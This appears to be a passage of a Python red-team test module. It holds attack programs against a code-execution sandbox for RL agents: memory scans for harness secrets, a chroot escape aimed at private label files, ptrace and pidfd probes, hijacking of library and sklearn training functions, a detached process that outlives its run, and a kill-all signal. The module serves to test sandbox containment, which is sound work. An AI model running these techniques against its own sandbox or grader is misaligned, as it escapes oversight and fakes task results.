"""Attack programs for ``test_warm_redteam.py``: what an RL agent would write against the warm backend.

Each program is a string; ``fill(program, NAME=value, ...)`` replaces ``__NAME__`` placeholders with
``repr(value)``. Programs print one JSON line prefixed by ``RESULT `` (``result_of`` finds it), so a
traceback or a library warning around it does not break the parsing.

Secrets that a program searches memory for are never written into its text whole: the needle is
given as two halves and matched as "first half immediately followed by second half", so the
program's own source, its constants and the objects it builds never hold the needle itself; a hit
means the bytes came from somewhere else.
"""

from __future__ import annotations

import json


def fill(program: str, **values) -> str:
    for name, value in values.items():
        program = program.replace(f"__{name}__", repr(value))
    return program


def results_of(stdout: str) -> dict:
    """Every RESULT line of stdout merged, later keys winning."""
    merged: dict = {}
    for line in stdout.splitlines():
        if line.startswith("RESULT "):
            merged.update(json.loads(line[len("RESULT ") :]))
    return merged


def result_of(stdout: str) -> dict:
    for line in reversed(stdout.splitlines()):
        if line.startswith("RESULT "):
            return json.loads(line[len("RESULT ") :])
    raise AssertionError(f"no RESULT line in stdout: {stdout[-2000:]!r}")


def halves(secret: str) -> tuple[str, str]:
    cut = len(secret) // 2
    return secret[:cut], secret[cut:]


# --------------------------------------------------------------------------------------------
# shared helpers pasted at the top of several programs

MEMSCAN = r'''
def _regions(pid, writable_only=True):
    out = []
    try:
        with open(f"/proc/{pid}/maps") as maps:
            for line in maps:
                f = line.split()
                perms = f[1]
                name = f[5] if len(f) > 5 else ""
                if "r" not in perms or name in ("[vvar]", "[vsyscall]", "[vdso]", "[vvar_vclock]"):
                    continue
                if writable_only and "w" not in perms and name not in ("", "[heap]", "[stack]"):
                    continue
                a, b = (int(x, 16) for x in f[0].split("-"))
                out.append((a, b))
    except OSError:
        pass
    return out


def _scan(pid, needles, writable_only=True):
    """Counts, per needle name, the places in process ``pid`` where half1+half2 occur."""
    hits = {name: 0 for name in needles}
    longest = max(len(h1) + len(h2) for h1, h2 in needles.values())
    try:
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as e:
        return {"error": repr(e)}
    with mem:
        for a, b in _regions(pid, writable_only):
            pos = a
            while pos < b:
                size = min(8 << 20, b - pos)
                try:
                    mem.seek(pos)
                    data = mem.read(size + (longest if pos + size < b else 0))
                except (OSError, OverflowError, ValueError):
                    break
                for name, (h1, h2) in needles.items():
                    i = data.find(h1)
                    while i >= 0:
                        if data[i + len(h1): i + len(h1) + len(h2)] == h2 and i < size:
                            hits[name] += 1
                        i = data.find(h1, i + 1)
                del data
                pos += size
    return hits


def _needles(spec):
    return {name: (h1.encode(), h2.encode()) for name, (h1, h2) in spec.items()}
'''


# --------------------------------------------------------------------------------------------
# the program's view

VIEW = r"""
import json, os, resource, signal, socket, sys
st = {}
for line in open("/proc/self/status"):
    k, _, v = line.partition(":")
    st[k] = v.strip()
limits = {n: resource.getrlimit(getattr(resource, n)) for n in sorted(dir(resource))
          if n.startswith("RLIMIT_")}
print("RESULT " + json.dumps({
    "uid": os.getuid(), "gid": os.getgid(), "euid": os.geteuid(), "egid": os.getegid(),
    "groups": os.getgroups(),
    "caps": {k: st.get(k) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")},
    "NoNewPrivs": st.get("NoNewPrivs"), "Seccomp": st.get("Seccomp"),
    "SigIgn": st.get("SigIgn"), "SigBlk": st.get("SigBlk"), "Umask": st.get("Umask"),
    "cwd": os.getcwd(), "hostname": socket.gethostname(), "limits": limits,
    "argv": sys.argv, "file": __file__, "name": __name__, "path": sys.path,
    "stdin_is_none": sys.stdin is None, "flags": repr(sys.flags),
    "cmdline": open("/proc/self/cmdline", "rb").read().decode(errors="replace"),
    "orig_argv": getattr(sys, "orig_argv", None),
}))
"""

NAMESPACES = r"""
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
FLAGS = {"newns": 0x00020000, "newuts": 0x04000000, "newipc": 0x08000000,
         "newnet": 0x40000000, "newpid": 0x20000000, "newcgroup": 0x02000000,
         "newtime": 0x00000080, "newuser": 0x10000000}

def attempt(fn):
    # each try in its own child, so one success does not change the next one's starting point
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            res = fn()
        except BaseException as e:
            res = repr(e)
        os.write(w, json.dumps(res).encode())
        os._exit(0)
    os.close(w)
    data = b""
    while True:
        chunk = os.read(r, 65536)
        if not chunk:
            break
        data += chunk
    os.waitpid(pid, 0)
    return json.loads(data or b'"child died"')

def call(f, *a):
    ctypes.set_errno(0)
    rc = f(*a)
    return [rc, os.strerror(ctypes.get_errno()) if rc == -1 else ""]

out = {name: attempt(lambda flag=flag: call(libc.unshare, flag)) for name, flag in FLAGS.items()}

def do_chroot():
    os.makedirs("/tmp/jail", exist_ok=True)
    return call(libc.chroot, b"/tmp/jail")

out["chroot"] = attempt(do_chroot)
print("RESULT " + json.dumps(out))
"""

# CAP_NET_ADMIN / CAP_NET_RAW in a network namespace of the program's own: nf_tables, packet
# sockets and interface configuration are the kernel surface bwrap's --disable-userns exists to
# keep out of reach.
NETADMIN = r"""
import ctypes, fcntl, json, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
out = {}
ctypes.set_errno(0)
rc = libc.unshare(0x40000000)
out["unshare_newnet"] = [rc, os.strerror(ctypes.get_errno()) if rc else ""]
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(s, 0x8914, struct.pack("16sH14s", b"lo", 0x1, b"\0" * 14))  # SIOCSIFFLAGS: lo up
    out["lo_up"] = True
except OSError as e:
    out["lo_up"] = repr(e)
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
    out["packet_socket"] = True
except OSError as e:
    out["packet_socket"] = repr(e)
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    out["raw_socket"] = True
except OSError as e:
    out["raw_socket"] = repr(e)

def nlmsg(t, flags, seq, payload):
    return struct.pack("=IHHII", 16 + len(payload), t, flags, seq, 0) + payload

def attr(t, data):
    n = 4 + len(data)
    return struct.pack("=HH", n, t) + data + b"\0" * ((4 - n % 4) % 4)

try:
    nl = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)  # NETLINK_NETFILTER
    nl.settimeout(2)
    nl.bind((0, 0))
    REQ, ACK, CREATE = 1, 4, 0x400
    batch = nlmsg(0x10, REQ, 1, struct.pack("=BBH", 0, 0, socket.htons(10)))  # BATCH_BEGIN
    batch += nlmsg((10 << 8) | 0, REQ | CREATE | ACK, 2,                       # NFT_MSG_NEWTABLE
                   struct.pack("=BBH", 1, 0, 0) + attr(1, b"wmrlrt\0"))
    batch += nlmsg(0x11, REQ, 3, struct.pack("=BBH", 0, 0, socket.htons(10)))  # BATCH_END
    nl.send(batch)
    acks = []
    try:
        while True:
            resp = nl.recv(65536)
            while len(resp) >= 20:
                ln, t, fl, seq, _ = struct.unpack("=IHHII", resp[:16])
                if t == 2:  # NLMSG_ERROR: an ack carries error 0
                    acks.append([seq, struct.unpack("=i", resp[16:20])[0]])
                resp = resp[(ln + 3) & ~3:] if ln else b""
            if any(seq == 2 for seq, _ in acks) or any(e != 0 for _, e in acks):
                break
    except OSError:
        pass
    out["nft_acks"] = acks
    out["nft_table_created"] = [2, 0] in acks
except OSError as e:
    out["nft_acks"] = repr(e)
    out["nft_table_created"] = False
print("RESULT " + json.dumps(out))
"""

FDS = r"""
import json, os, stat
out = {}
for fd in range(1024):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    try:
        link = os.readlink(f"/proc/self/fd/{fd}")
    except OSError as e:
        link = repr(e)
    out[str(fd)] = [stat.filemode(st.st_mode), link]
print("RESULT " + json.dumps(out))
"""

ENVIRON = r"""
import json, os, sys
seen = {"os.environ": dict(os.environ)}
for name in sorted(os.listdir("/proc"), key=lambda n: (not n.isdigit(), n)):
    if name.isdigit() or name == "self":
        for what in ("environ", "cmdline"):
            try:
                seen[f"/proc/{name}/{what}"] = open(f"/proc/{name}/{what}", "rb").read().decode(
                    errors="replace")
            except OSError as e:
                seen[f"/proc/{name}/{what}"] = repr(e)
print("RESULT " + json.dumps(seen))
"""

# --------------------------------------------------------------------------------------------
# memory: harness secrets and other runs' data

SCAN_SELF = (
    MEMSCAN
    + r"""
import json, os, time
NEEDLES = _needles(__NEEDLES__)
time.sleep(__DELAY__)
t0 = time.time()
out = {"self": _scan("self", NEEDLES)}
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        out[name] = _scan(int(name), NEEDLES)
print("RESULT " + json.dumps({"scan": out, "t0": t0, "t1": time.time()}))
"""
)

# Holds a token the way a program's data sits in memory (bytes, str, numpy, pandas), in files,
# and in stdout; sleeps so that a concurrent run can look for it.
HOLDER = r"""
import json, os, time
import numpy as np
TOKEN = __TOKEN__
raw = (TOKEN + "|") * 4096
held = [raw, raw.encode(), np.frombuffer(raw.encode(), dtype=np.uint8).copy(), bytearray(raw.encode())]
try:
    import pandas as pd
    held.append(pd.DataFrame({"secret": [TOKEN] * 1000}))
except ImportError:
    pass
data = open("data/train.csv").read()
for path in ("/tmp/held-" + TOKEN, "/dev/shm/held-" + TOKEN, "/workspace/held-" + TOKEN):
    with open(path, "w") as f:
        f.write(raw)
print("holding", TOKEN, flush=True)
print("RESULT " + json.dumps({"ready": time.time(), "data": len(data)}), flush=True)
time.sleep(__HOLD__)
print("RESULT " + json.dumps({"ready": 0, "end": time.time()}), flush=True)
"""

# --------------------------------------------------------------------------------------------
# cross-run state: a mutator changes everything it can reach, a checker describes the state

STATE_CHECK = (
    MEMSCAN
    + r"""
import json, os, sys, time, signal, resource, socket, warnings, gc, decimal, math, threading
import atexit, builtins, ctypes, errno, glob
import numpy as np
import pandas as pd
import sklearn
from sklearn.linear_model import LogisticRegression
start = time.time()
time.sleep(__DELAY__)
checked_at = time.time()
libc = ctypes.CDLL(None, use_errno=True)
KEY = __KEY__
TOKEN_NAME = __TOKEN_NAME__
state = {}
state["np_mean"] = float(np.mean([1, 2, 3, 4]))
state["np_marker"] = hasattr(np, "__wmrl_rt__")
state["np_sum_name"] = getattr(np.sum, "__qualname__", "?") + str(np.sum([1, 2]))
state["pd_max_rows"] = pd.get_option("display.max_rows")
state["pd_df_marker"] = hasattr(pd.DataFrame, "wmrl_rt")
state["pd_read_csv"] = pd.read_csv.__module__ + "." + pd.read_csv.__qualname__
state["sk_config"] = {k: repr(v) for k, v in sorted(sklearn.get_config().items())}
state["lr_fit"] = LogisticRegression.fit.__module__ + "." + LogisticRegression.fit.__qualname__
state["np_seeded_12345"] = float(np.random.rand()) == float(np.random.RandomState(12345).rand())
import random
state["random_seeded_12345"] = random.random() == random.Random(12345).random()
state["env"] = sorted(os.environ)
state["env_marker"] = [k for k, v in os.environ.items() if "wmrl-rt" in v or "WMRL_RT" in k]
state["sys_modules_marker"] = [m for m in sys.modules if "wmrl_rt" in m]
state["sys_path"] = sys.path
state["meta_path"] = [type(f).__name__ for f in sys.meta_path]
state["builtins_marker"] = hasattr(builtins, "wmrl_rt")
state["print_is_builtin"] = type(builtins.print).__name__
state["warnings"] = [repr(f[:1] + f[2:3]) for f in warnings.filters]
state["cwd"] = os.getcwd()
status = {}
for line in open("/proc/self/status"):
    k, _, v = line.partition(":")
    status[k] = v.strip()
state["status"] = {k: status.get(k) for k in (
    "Umask", "SigIgn", "SigBlk", "SigCgt", "NoNewPrivs", "Seccomp", "CapEff", "CapPrm", "Threads")}
def _sig(s):
    h = signal.getsignal(s)
    return {signal.SIG_DFL: "SIG_DFL", signal.SIG_IGN: "SIG_IGN",
            signal.default_int_handler: "default_int_handler"}.get(h, "other")
state["signals"] = {s.name: _sig(s) for s in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1,
                                              signal.SIGALRM, signal.SIGHUP, signal.SIGCHLD)}
state["alarm_pending"] = signal.alarm(0)
state["itimer"] = list(signal.getitimer(signal.ITIMER_REAL))
state["rlimits"] = {n: resource.getrlimit(getattr(resource, n)) for n in sorted(dir(resource))
                    if n.startswith("RLIMIT_")}
state["np_err"] = np.geterr()
state["np_precision"] = np.get_printoptions()["precision"]
state["recursionlimit"] = sys.getrecursionlimit()
state["switchinterval"] = sys.getswitchinterval()
state["gc_enabled"] = gc.isenabled()
state["decimal_prec"] = decimal.getcontext().prec
state["socket_timeout"] = socket.getdefaulttimeout()
state["np_pi"] = repr(np.pi)
state["math_pi"] = repr(math.pi)
state["int_256"] = repr(int("128") * 2)
from importlib.metadata import version
state["sklearn_version_ok"] = sklearn.__version__ == version("scikit-learn")
state["excepthook"] = sys.excepthook.__name__
state["threads"] = threading.active_count()
state["tasks"] = len(os.listdir("/proc/self/task"))
state["atexit"] = atexit._ncallbacks()
# a private file mapping patched through /proc/self/mem must not show up in the next run
import numpy._core._multiarray_umath as mu
so = os.path.realpath(mu.__file__)
first = None
for line in open("/proc/self/maps"):
    f = line.split()
    if len(f) > 5 and os.path.realpath(f[5]) == so and int(f[2], 16) == 0:
        first = int(f[0].split("-")[0], 16)
        break
with open("/proc/self/mem", "rb", 0) as m:
    m.seek(first)
    mapped = m.read(64)
state["so_header_intact"] = mapped == open(so, "rb").read(64)
# what other processes are visible
comms = []
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != os.getpid():
        try:
            comms.append(open(f"/proc/{p}/comm").read().strip())
        except OSError:
            comms.append("?")
state["visible_procs"] = sorted(comms)
# files anywhere the program may write
files = []
# the interpreter is bound read-only at its host path, which may lie below /tmp (a CI clone)
_ro = {"/workspace/data", sys.prefix, sys.base_prefix, os.path.realpath(sys.base_prefix)}
for d in ("/tmp", "/dev/shm", "/workspace", os.path.expanduser("~")):
    for root, dirs, names in os.walk(d):
        dirs[:] = [x for x in dirs if os.path.join(root, x) not in _ro]
        files += [os.path.join(root, n) for n in names]
state["files"] = sorted(set(files))
# SysV IPC, POSIX mqueues, sockets
def _err(rc):
    return "ok" if rc != -1 else errno.errorcode.get(ctypes.get_errno(), "?")
ctypes.set_errno(0); state["shmget"] = _err(libc.shmget(KEY, 0, 0))
ctypes.set_errno(0); state["msgget"] = _err(libc.msgget(KEY, 0))
ctypes.set_errno(0); state["semget"] = _err(libc.semget(KEY, 0, 0))
for kind in ("shm", "msg", "sem"):
    try:
        state["sysvipc_" + kind] = len(open(f"/proc/sysvipc/{kind}").read().splitlines()) - 1
    except OSError as e:
        state["sysvipc_" + kind] = repr(e)
try:
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    rt.mq_open.restype = ctypes.c_int
    ctypes.set_errno(0)
    state["mq_open"] = _err(rt.mq_open(("/" + TOKEN_NAME).encode(), os.O_RDONLY))
except OSError as e:
    state["mq_open"] = repr(e)
def _connect(family, addr, kind=socket.SOCK_STREAM):
    try:
        s = socket.socket(family, kind)
    except OSError as e:  # only AF_UNIX sockets exist in the sandbox
        return errno.errorcode.get(e.errno, repr(e))
    s.settimeout(1)
    try:
        s.connect(addr)
        return "connected"
    except OSError as e:
        return errno.errorcode.get(e.errno, repr(e))
    finally:
        s.close()
state["abstract_socket"] = _connect(socket.AF_UNIX, "\0" + TOKEN_NAME)
state["tcp_127"] = _connect(socket.AF_INET, ("127.0.0.1", __PORT__))
state["unix_table"] = [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:]
                       if "wmrl" in l]
state["tcp_listen"] = sum(1 for l in open("/proc/net/tcp").read().splitlines()[1:]
                          if l.split()[3] == "0A")
leaks = {"memory": _scan("self", _needles(__NEEDLES__))}
leaks["memory_readonly_too"] = _scan("self", _needles(__NEEDLES__), writable_only=False)
print("RESULT " + json.dumps({"state": state, "leaks": leaks, "start": start,
                              "checked_at": checked_at, "done_at": time.time()}, default=repr))
"""
)

MUTATOR = r"""
import json, os, sys, time, signal, resource, socket, warnings, gc, decimal, math, threading
import atexit, builtins, ctypes, random, types
import numpy as np
import pandas as pd
import sklearn
from sklearn.linear_model import LogisticRegression
TOKEN = __TOKEN__
KEY = __KEY__
TOKEN_NAME = __TOKEN_NAME__
libc = ctypes.CDLL(None, use_errno=True)
secret = [TOKEN * 64, (TOKEN * 64).encode(), pd.DataFrame({"t": [TOKEN] * 500})]
data = open("data/train.csv").read()
# --- module state of the preloaded libraries
np.mean = lambda *a, **k: 42.0
np.__wmrl_rt__ = TOKEN
try:
    np.sum.__qualname__ = "hijacked"
except (AttributeError, TypeError):
    np.sum = lambda *a, **k: 0
pd.set_option("display.max_rows", 7)
pd.DataFrame.wmrl_rt = TOKEN
pd.read_csv = lambda *a, **k: pd.DataFrame({"hijacked": [1]})
sklearn.set_config(assume_finite=True, print_changed_only=False, working_memory=3)
LogisticRegression.fit = lambda self, *a, **k: self
np.random.seed(12345)
random.seed(12345)
np.seterr(all="raise")
np.set_printoptions(precision=2)
# --- interpreter state
os.environ["WMRL_RT"] = "wmrl-rt-" + TOKEN
sys.modules["wmrl_rt_mod"] = types.ModuleType("wmrl_rt_mod")
sys.path.insert(0, "/tmp/wmrl_rt_path")
sys.meta_path.insert(0, type("Hook", (), {"find_spec": staticmethod(lambda *a, **k: None)})())
builtins.wmrl_rt = TOKEN
builtins.print = lambda *a, **k: None
sys.setrecursionlimit(321)
sys.setswitchinterval(0.5)
gc.disable()
decimal.getcontext().prec = 3
socket.setdefaulttimeout(1.5)
sys.excepthook = lambda *a: None
def _at_exit():
    with open("/tmp/wmrl-rt-atexit", "w") as f:
        f.write(TOKEN)
atexit.register(_at_exit)
# --- process state
os.chdir("/tmp")
os.umask(0o077)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGUSR1, lambda *a: None)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR2})
signal.alarm(100)
signal.setitimer(signal.ITIMER_REAL, 100)
threading.Thread(target=lambda: time.sleep(1000), daemon=True).start()
# --- C-level: constants of the preloaded modules changed in place
ctypes.c_double.from_address(id(np.pi) + 16).value = 3.0
ctypes.c_double.from_address(id(math.pi) + 16).value = 3.0
v = sklearn.__version__
ctypes.memmove(id(v) + sys.getsizeof(v) - len(v) - 1, b"9", 1)
# --- a private file mapping patched through /proc/self/mem
import numpy._core._multiarray_umath as mu
so = os.path.realpath(mu.__file__)
for line in open("/proc/self/maps"):
    f = line.split()
    if len(f) > 5 and os.path.realpath(f[5]) == so and int(f[2], 16) == 0:
        with open("/proc/self/mem", "r+b", 0) as m:
            m.seek(int(f[0].split("-")[0], 16))
            m.write(b"WMRLRT" * 10)
        break
# --- files
for path in ("/tmp/wmrl-rt-" + TOKEN, "/dev/shm/wmrl-rt-" + TOKEN, "/workspace/wmrl-rt-" + TOKEN,
             os.path.expanduser("~/.wmrl-rt-" + TOKEN), "/workspace/submission.csv"):
    with open(path, "w") as f:
        f.write(TOKEN)
# --- IPC objects
shm = libc.shmget(KEY, 4096, 0o1000 | 0o666)
if shm != -1:
    libc.shmat.restype = ctypes.c_void_p
    addr = libc.shmat(shm, None, 0)
    ctypes.memmove(addr, TOKEN.encode(), len(TOKEN))
libc.msgget(KEY, 0o1000 | 0o666)
libc.semget(KEY, 1, 0o1000 | 0o666)
try:
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    rt.mq_open(("/" + TOKEN_NAME).encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
except OSError:
    pass
sockets = []
for family, addr in ((socket.AF_UNIX, "\0" + TOKEN_NAME), (socket.AF_INET, ("0.0.0.0", __PORT__))):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
    except OSError:  # only AF_UNIX sockets exist in the sandbox
        continue
    s.bind(addr)
    s.listen(5)
    sockets.append(s)
# --- a detached grandchild that outlives the program (token in its argv for the host scan)
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:  # refused in the sandbox (the autogroup counter)
        pass
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import signal, time\n"
                 "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\n"
                 "while True:\n"
                 "    open('/tmp/wmrl-rt-grandchild', 'w').write(str(time.time()))\n"
                 "    time.sleep(0.1)\n", "wmrl-rt-" + TOKEN])
    os._exit(0)
os.wait()
for name in ("RLIMIT_NOFILE", "RLIMIT_STACK", "RLIMIT_CPU", "RLIMIT_FSIZE"):
    r = getattr(resource, name)
    soft, hard = resource.getrlimit(r)
    want = {"RLIMIT_NOFILE": 64, "RLIMIT_STACK": 2 << 20, "RLIMIT_CPU": 5, "RLIMIT_FSIZE": 4096}[name]
    new = want if hard == resource.RLIM_INFINITY else min(hard, want)
    try:
        resource.setrlimit(r, (new, new))
    except (ValueError, OSError):
        pass
warnings.simplefilter("error")
sys.stdout.write("RESULT " + json.dumps({"ready": time.time()}) + "\n")
sys.stdout.flush()
time.sleep(__HOLD__)
sys.stdout.write("RESULT " + json.dumps({"ready": 0, "end": time.time()}) + "\n")
sys.stdout.flush()
"""

# --------------------------------------------------------------------------------------------
# randomness

RNG = r"""
import json, os, random, secrets, tempfile, uuid
import numpy as np
out = {
    "random": random.random(),
    "random_getrandbits": random.getrandbits(64),
    "random_instance": random.Random().random(),
    "np_rand": float(np.random.rand()),
    "np_randint": int(np.random.randint(0, 2**62)),
    "np_randomstate": float(np.random.RandomState().rand()),
    "np_default_rng": float(np.random.default_rng().random()),
    "np_seedsequence": str(np.random.SeedSequence().entropy),
    "urandom": os.urandom(16).hex(),
    "secrets": secrets.token_hex(16),
    "uuid4": str(uuid.uuid4()),
    "uuid_node": uuid.getnode(),
    "tempfile_mkstemp": tempfile.mkstemp()[1],
    "tempfile_mkdtemp": tempfile.mkdtemp(),
    "tempfile_named": tempfile.NamedTemporaryFile(delete=False).name,
    "tempfile_candidate": next(tempfile._get_candidate_names()),
}
try:
    import ssl
    out["ssl_rand"] = ssl.RAND_bytes(16).hex()
except ImportError:
    pass
import scipy.stats
out["scipy_norm"] = float(scipy.stats.norm.rvs())
from sklearn.utils import check_random_state, shuffle
out["sklearn_check_random_state"] = float(check_random_state(None).rand())
out["sklearn_shuffle"] = shuffle(list(range(10**6)))[:4]
from sklearn.model_selection import train_test_split
out["sklearn_split"] = train_test_split(list(range(10**6)))[1][:4]
import pandas as pd
out["pandas_sample"] = pd.Series(range(10**6)).sample(4).tolist()
print("RESULT " + json.dumps({"draws": out}))
"""

# Random generators created while libraries were imported (entropy-seeded then): in a fresh
# process each differs from run to run; fingerprinted by one draw from a copy.
IMPORT_TIME_RNGS = r"""
import copy, gc, json, random
import numpy as np
import scipy.stats, sklearn.ensemble, sklearn.model_selection, sklearn.linear_model, pandas
out = {}
for o in gc.get_objects():
    if o is np.random.mtrand._rand or o is random._inst:
        continue
    try:
        if isinstance(o, np.random.RandomState):
            c = copy.deepcopy(o)
            out.setdefault("RandomState", []).append(float(c.random_sample()))
        elif isinstance(o, np.random.Generator):
            c = copy.deepcopy(o)
            out.setdefault("Generator", []).append(float(c.random()))
        elif type(o) is random.Random:
            c = random.Random()
            c.setstate(o.getstate())
            out.setdefault("Random", []).append(c.random())
    except Exception:
        pass
from sklearn.ensemble._hist_gradient_boosting.grower import TreeGrower
d = [v for v in (TreeGrower.__init__.__defaults__ or ()) if isinstance(v, np.random.Generator)]
out["TreeGrower_default_rng"] = [float(copy.deepcopy(g).random()) for g in d]
print("RESULT " + json.dumps({"import_time": out}))
"""

AUTHKEY = r"""
import json, multiprocessing.process as mp
print("RESULT " + json.dumps({"authkey": bytes(mp.current_process().authkey).hex()}))
"""

RANDOMNESS = IMPORT_TIME_RNGS + AUTHKEY + RNG

# --------------------------------------------------------------------------------------------
# reaching the zygote, the harness, other processes

REACH = r"""
import ctypes, errno, json, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
TARGETS = __TARGETS__     # host pids of the zygote (and the harness): numbers from outside
NR = {"pidfd_open": 434, "pidfd_getfd": 438, "pidfd_send_signal": 424, "process_vm_readv": 310,
      "ptrace": 101, "kcmp": 312, "setns": 308}
def sc(name, *args):
    ctypes.set_errno(0)
    rc = libc.syscall(NR[name], *[ctypes.c_long(a) for a in args])
    return [rc, errno.errorcode.get(ctypes.get_errno(), "") if rc == -1 else ""]
out = {"ppid": os.getppid(), "pid": os.getpid()}
# every pid the program can signal, probed with signal 0
alive = []
for pid in range(1, 70000):
    try:
        os.kill(pid, 0)
        alive.append(pid)
    except ProcessLookupError:
        pass
    except PermissionError:
        alive.append(pid)
out["signalable"] = alive
out["proc_pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
per = {}
for t in TARGETS:
    r = {}
    try:
        os.kill(t, 0)
        r["kill0"] = "ok"
    except OSError as e:
        r["kill0"] = errno.errorcode.get(e.errno)
    r["pidfd_open"] = sc("pidfd_open", t, 0)
    r["ptrace_attach"] = sc("ptrace", 16, t, 0, 0)
    r["process_vm_readv"] = sc("process_vm_readv", t, 0, 0, 0, 0, 0)
    r["kcmp"] = sc("kcmp", os.getpid(), t, 0, 0, 0)
    r["proc_entry"] = os.path.exists(f"/proc/{t}")
    per[str(t)] = r
out["targets"] = per
# the namespaces of pid 1, by fd: setns must be refused
fds = {}
for ns in ("mnt", "pid", "net", "user", "ipc", "uts", "cgroup"):
    try:
        fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
        fds[ns] = sc("setns", fd, 0)
        os.close(fd)
    except OSError as e:
        fds[ns] = repr(e)
out["setns"] = fds
# pidfd of pid 1 (bwrap's init in both backends), then grab its descriptors
pfd = sc("pidfd_open", 1, 0)
out["pidfd_open_1"] = pfd
if pfd[0] >= 0:
    out["pidfd_getfd_1"] = [sc("pidfd_getfd", pfd[0], fd, 0) for fd in range(0, 8)]
# finally: SIGKILL to every process this program may signal
try:
    os.kill(-1, signal.SIGKILL)
    out["kill_all"] = "sent"
except OSError as e:
    out["kill_all"] = errno.errorcode.get(e.errno)
print("RESULT " + json.dumps(out), flush=True)
"""

SECCOMP = r"""
import ctypes, errno, json, os, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CALLS = {  # x86_64 numbers; arguments harmless should the call be allowed
    "keyctl": (250, 0, -3, 0), "add_key": (248, 0, 0, 0, 0, 0), "request_key": (249, 0, 0, 0, 0),
    "io_uring_setup": (425, 0, 0), "userfaultfd": (323, 0), "bpf": (321, -1, 0, 0),
    "perf_event_open": (298, 0, 0, -1, -1, 0), "ptrace_traceme": (101, 0, 0, 0, 0),
    "process_vm_readv": (310, os.getpid(), 0, 0, 0, 0, 0), "kcmp": (312, os.getpid(), os.getpid(), 0, 0, 0),
    "pidfd_getfd": (438, -1, 0, 0), "mount": (165, 0, 0, 0, 0, 0), "umount2": (166, 0, 0),
    "pivot_root": (155, 0, 0), "setns": (308, -1, 0), "fsopen": (430, 0, 0),
    "open_tree": (428, -1, 0, 0), "move_mount": (429, -1, 0, -1, 0, 0),
    "unshare_newuser": (272, 0x10000000), "clone3": (435, 0, 0),
    "personality_no_aslr": (135, 0x0040000), "swapon": (167, 0, 0), "reboot": (169, 0, 0, 0, 0),
    "syslog": (103, 10, 0, 0), "acct": (163, 0), "settimeofday": (164, 0, 0),
    "sethostname": (170, 0, 0), "iopl": (172, 0), "init_module": (175, 0, 0, 0),
    "kexec_load": (246, 0, 0, 0, 0), "open_by_handle_at": (304, -1, 0, 0),
}
def run(calls):
    out = {}
    for name, (nr, *args) in calls.items():
        ctypes.set_errno(0)
        rc = libc.syscall(nr, *[ctypes.c_long(a) for a in args])
        out[name] = [rc, errno.errorcode.get(ctypes.get_errno(), "") if rc == -1 else ""]
    return out
res = {"main": run(CALLS)}
box = {}
t = threading.Thread(target=lambda: box.update(run({k: CALLS[k] for k in ("keyctl", "unshare_newuser", "mount")})))
t.start(); t.join()
res["thread"] = box
pid = os.fork()
if pid == 0:
    r = run({k: CALLS[k] for k in ("keyctl", "unshare_newuser", "mount", "bpf")})
    os._exit(0 if all(v[0] == -1 and v[1] == "EPERM" for v in r.values()) else 3)
res["child_all_eperm"] = os.waitpid(pid, 0)[1] == 0
print("RESULT " + json.dumps(res))
"""

LABELS = r"""
import ctypes, json, os, stat
TOKEN = __TOKEN__
HOST_PRIVATE = __HOST_PRIVATE__
HOST_PUBLIC = __HOST_PUBLIC__
libc = ctypes.CDLL(None, use_errno=True)
found = []
tried = {}
def look(path):
    try:
        if os.path.isdir(path):
            tried[path] = sorted(os.listdir(path))[:20]
            return
        with open(path, "rb") as f:
            data = f.read(1 << 20)
        tried[path] = len(data)
        if TOKEN.encode() in data:
            found.append(path)
    except OSError as e:
        tried[path] = type(e).__name__
label_name = os.path.basename(HOST_PRIVATE)
for p in (HOST_PRIVATE, os.path.dirname(HOST_PRIVATE), "/workspace/data/../private/" + label_name,
          "/workspace/data/../../private/" + label_name, "/proc/1/root" + HOST_PRIVATE,
          "/proc/self/root" + HOST_PRIVATE, "/proc/1/cwd/../private/" + label_name,
          "/proc/2/root" + HOST_PRIVATE, HOST_PUBLIC, os.path.dirname(HOST_PUBLIC)):
    look(p)
# warm hands the program a chroot: try the classic escape (mkdir, chroot, walk up, chroot .)
try:
    os.makedirs("/tmp/esc/inner", exist_ok=True)
    if libc.chroot(b"/tmp/esc/inner") == 0:
        for _ in range(64):
            os.chdir("..")
        libc.chroot(b".")
        tried["chroot_escape"] = "chrooted"
        look(HOST_PRIVATE)
        look(os.path.dirname(HOST_PRIVATE))
except OSError as e:
    tried["chroot_escape"] = repr(e)
# walk everything small enough that is not the interpreter or its packages
skip = ("/proc", "/sys", "/usr") + __INTERPRETER__
n = 0
for root, dirs, names in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(skip)]
    for name in names + dirs:
        n += 1
        path = os.path.join(root, name)
